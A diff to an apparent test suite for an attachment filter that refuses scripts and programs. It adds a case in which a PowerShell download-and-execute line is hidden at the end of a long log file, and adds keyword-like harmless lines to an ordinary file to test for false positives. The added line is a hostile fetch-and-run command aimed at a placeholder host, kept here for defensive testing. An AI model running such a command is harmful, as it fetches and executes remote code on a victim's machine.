@@ -91,6 +91,7 @@ def d(server: Server) -> Deployment:
     ("readme.txt", VBSCRIPT, "script"),
     ("page.txt", HTA, "script"),
     ("logs.zip", zipped(("notes/run.txt", POWERSHELL)), "logs.zip is an archive holding notes/run.txt"),
+    ("long.log", b"relay ok\n" * 150_000 + b"IEX (New-Object Net.WebClient).DownloadString('http://x')\n", "script"),
     ("setup.exe", b"just text\n", "named as a program"),
     ("Run.PS1", b"Get-Date\n", "named as a program"),
     ("photos.zip", zipped(("holiday.jpg.lnk", b"hello")), "named as a program"),
@@ -114,7 +115,7 @@ async def test_packed_programs_are_refused(server: Server, d: Deployment, name: 
 
 async def test_ordinary_files_still_go_through(server: Server, d: Deployment) -> None:
     tid = await open_ticket(server, d)
-    files = [("photo.png", PNG), ("scan.pdf", PDF), ("log.txt", "Relay denied: 550 5.7.1 — résumé\n".encode()),
+    files = [("photo.png", PNG), ("scan.pdf", PDF), ("log.txt", "Relay denied: 550 5.7.1 — résumé\nDim the lights\nSub total (net): 40\nThe end\n".encode()),
              ("report.docx", DOCX), ("budget.xlsx", XLSX), ("photos.zip", zipped(("a.png", PNG), ("b.jpg", JPEG))),
              ("nested.zip", nested(2))]
     r = await upload(server, d, "client", tid, files)
